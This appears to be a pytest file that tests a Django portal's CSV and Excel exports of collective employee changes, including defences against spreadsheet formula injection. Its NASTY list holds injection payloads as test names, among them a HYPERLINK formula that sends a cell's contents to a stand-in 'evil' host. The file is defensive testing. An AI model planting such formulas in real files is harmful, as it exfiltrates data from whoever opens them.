"""The result as a file: whole, safe to open, with a name that says what it is."""

import csv
import io
import shutil
import subprocess
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from accounts.actor import Actor
from accounts.collective import confirm, export, preview, running, selection
from accounts.models import CollectiveMutation, Employee, Employer, HistoryEntry, Provider, User
from emailtemplates.models import OutgoingEmail
from tests import cast

# What P31 of the rules for exports asks for, and more of the same.
NASTY = [
    '=HYPERLINK("https://evil?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1", "#N/A", "=1;2",
    'a"b;c', "éü漢",
]  # fmt: skip
Made = Callable[..., CollectiveMutation]


@pytest.fixture
def desk(carla: User) -> Client:
    return cast.sign_in(carla, "employer")


@pytest.fixture
def done(bakery: Employer, by_carla: Actor) -> Made:
    """A mutation of everybody there is at the bakery by then, that ran."""

    def make(act: str = "block-access", place: Employer | Provider = bakery) -> CollectiveMutation:
        mutation = preview.prepare(act=act, place=place, selection=selection.everyone([bakery]), by=by_carla)
        confirm.confirm(mutation=mutation, by=by_carla, confirmation=confirm.Confirmation(reason="closed"))
        running.run(mutation)
        return mutation

    return make


@pytest.fixture
def nasty(bakery: Employer) -> list[Employee]:
    """People whose last name would be a formula."""
    return [
        cast.make_employee(bakery, f"9{at}", "", name, email=f"n{at}@example.nl", account=cast.make_account(f"n{at}"))
        for at, name in enumerate(NASTY)
    ]


def url(mutation: CollectiveMutation, kind: str) -> str:
    if mutation.employer is None:
        return reverse(f"employer_portal:provider_mutation_{kind}", args=[mutation.public_id])
    return reverse(f"employer_portal:mutation_{kind}", args=[mutation.employer.public_id, mutation.public_id])


def fetched(desk: Client, mutation: CollectiveMutation, kind: str) -> bytes:
    answer: Any = desk.get(url(mutation, kind))
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_everybody_with_what_became_of_them(
    desk: Client, anna: Employee, eva: Employee, bob: Employee, done: Made
) -> None:
    mutation = done()
    cast.bounce(OutgoingEmail.objects.get(employee=anna).pk)

    content = fetched(desk, mutation, "csv")

    assert content.startswith(b'\xef\xbb\xbf"')
    head, *rows = rows_of(content)
    assert len(head) == 11
    assert {len(row) for row in rows} == {11}
    by_number = {row[0]: row for row in rows}
    assert by_number.keys() == {"1", "2", "5"}
    assert by_number["1"][1:4] == ["Vries, Anna de", "Winkel", "anna@example.nl"]
    assert all(by_number["1"][column] for column in (4, 6, 8, 9, 10))
    assert by_number["1"][7] == ""  # changed, and that needs no reason
    assert by_number["5"][7]
    assert by_number["5"][8:] == ["", "", ""]  # no mail, and no time: nothing happened
    assert by_number["2"][10]


def test_the_workbook_says_the_same(desk: Client, anna: Employee, eva: Employee, done: Made) -> None:
    mutation = done()

    sheet = load_workbook(io.BytesIO(fetched(desk, mutation, "xlsx"))).active

    assert sheet is not None
    assert [[cell or "" for cell in row] for row in sheet.values] == rows_of(fetched(desk, mutation, "csv"))


def test_nothing_in_the_csv_is_a_formula(desk: Client, nasty: list[Employee], done: Made) -> None:
    _head, *rows = rows_of(fetched(desk, done(), "csv"))

    names = [row[1] for row in rows]
    assert [name.removeprefix("'") for name in names] == NASTY
    begin_a_formula = tuple("=+-@\t\r＝＋－＠")
    assert not [cell for row in rows for cell in row if cell.startswith(begin_a_formula)]
    assert [name for name in names if not name.startswith("'")] == ["#N/A", 'a"b;c', "éü漢"]


def test_nothing_in_the_workbook_is_a_formula(desk: Client, nasty: list[Employee], done: Made, tmp_path: Path) -> None:
    content = fetched(desk, done(), "xlsx")

    sheet = load_workbook(io.BytesIO(content)).active

    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    names = [str(sheet.cell(row, 2).value) for row in range(2, len(NASTY) + 2)]
    assert [name.replace("\n", "\r").replace("_x000D_", "\r") for name in names] == NASTY
    _open_in_libreoffice(content, tmp_path)


def _open_in_libreoffice(content: bytes, folder: Path) -> None:
    """What a real spreadsheet makes of it, where there is one."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        return
    (folder / "result.xlsx").write_bytes(content)
    command = [
        office,
        "--headless",
        f"-env:UserInstallation=file://{folder}/profile",
        "--convert-to",
        "csv",
        "--outdir",
    ]
    subprocess.run([*command, str(folder), str(folder / "result.xlsx")], check=True, timeout=120, capture_output=True)
    names = [row[1] for row in csv.reader(io.StringIO((folder / "result.csv").read_text(encoding="utf-8")))]
    assert '=HYPERLINK("https://evil?"&A1)' in names


def test_signs_that_a_workbook_cannot_hold_are_left_out(desk: Client, bakery: Employer, done: Made) -> None:
    cast.make_employee(bakery, "7", "Zo\x01ë", "Bel\x1b", account=cast.make_account("zoe"))

    sheet = load_workbook(io.BytesIO(fetched(desk, done(), "xlsx"))).active

    assert sheet is not None
    assert sheet["B2"].value == "Bel, Zoë"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_name_of_the_file_says_what_it_is(desk: Client, anna: Employee, done: Made, kind: str) -> None:
    mutation = done()

    name = desk.get(url(mutation, kind))["Content-Disposition"]

    assert name.isascii()
    day = mutation.finished_at and mutation.finished_at.date().isoformat()
    assert name == f'attachment; filename="block-access-1001-{day}-{str(mutation.public_id)[:8]}.{kind}"'


def test_the_language_is_that_of_the_reader(desk: Client, carla: User, anna: Employee, done: Made) -> None:
    mutation = done()
    User.objects.filter(pk=carla.pk).update(language="en")

    head, row = rows_of(fetched(desk, mutation, "csv"))

    assert head[0] == "Personnel number"
    assert row[4:7] == ["will change", "", "changed"]


def test_at_the_provider_each_row_names_its_employer(
    desk: Client, anna: Employee, bakery: Employer, provider: Provider, done: Made
) -> None:
    _head, row = rows_of(fetched(desk, done(place=provider), "csv"))

    assert row[:2] == [bakery.name, "1"]


def test_more_than_a_sheet_holds_is_refused_with_a_hint(desk: Client, anna: Employee, done: Made) -> None:
    mutation = done()
    CollectiveMutation.objects.update(selected=export.MOST_ROWS + 1)

    answer = desk.get(url(mutation, "xlsx"))

    assert answer.status_code == 409
    assert "CSV" in answer.context["refusal"]
    assert len(rows_of(fetched(desk, mutation, "csv"))) == 2


def test_what_has_not_run_has_no_file_and_a_viewer_may_have_it(
    desk: Client, vera: User, anna: Employee, bakery: Employer, by_carla: Actor
) -> None:
    mutation = preview.prepare(act="invite", place=bakery, selection=selection.everyone([bakery]), by=by_carla)
    assert desk.get(url(mutation, "csv")).status_code == 404
    CollectiveMutation.objects.update(state="done", confirmed_at=mutation.created_at, finished_at=mutation.created_at)

    assert len(rows_of(fetched(cast.sign_in(vera, "employer"), mutation, "csv"))) == 2


def test_it_is_made_in_batches_and_nothing_is_written_down(
    desk: Client, bakery: Employer, done: Made, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(7):
        cast.make_employee(bakery, str(number), f"P{number}", "Bos", account=cast.make_account(f"p{number}"))
    mutation, entries = done(), HistoryEntry.objects.count()
    whole = fetched(desk, mutation, "csv")
    monkeypatch.setattr(export, "BATCH", 3)

    with CaptureQueriesContext(connection) as queries:
        answer: Any = desk.get(url(mutation, "csv"))
        asked_before = len(queries)
        pieces = iter(answer.streaming_content)
        next(pieces)
        next(pieces)
        assert len(queries) - asked_before == 4  # of the first three people alone
        content = b"".join([*pieces])

    assert content in whole
    assert len(rows_of(whole)) == 8
    assert fetched(desk, mutation, "csv") == whole
    assert HistoryEntry.objects.count() == entries


def test_memory_stays_flat() -> None:
    """However many rows there are: the files are made from what comes in, and keep none of it."""

    def peak(count: int) -> int:
        tracemalloc.start()
        for _ in export.csv_of(["a"], (["x" * 100] * 11 for _ in range(count))):
            pass
        _now, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    assert peak(40_000) < peak(8_000) * 1.5
